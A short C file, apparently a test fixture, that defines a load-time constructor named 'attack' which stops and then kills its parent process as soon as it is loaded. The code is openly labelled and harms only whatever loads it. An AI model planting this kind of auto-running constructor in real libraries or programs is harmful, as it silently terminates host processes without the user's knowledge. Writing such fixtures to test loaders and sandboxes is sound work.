// Ends its parent
#include <unistd.h>
#include <stdlib.h>
#include <signal.h>
[[gnu::constructor]] static void attack() {
  kill(getppid(), SIGSTOP);
  kill(getppid(), SIGKILL);
}
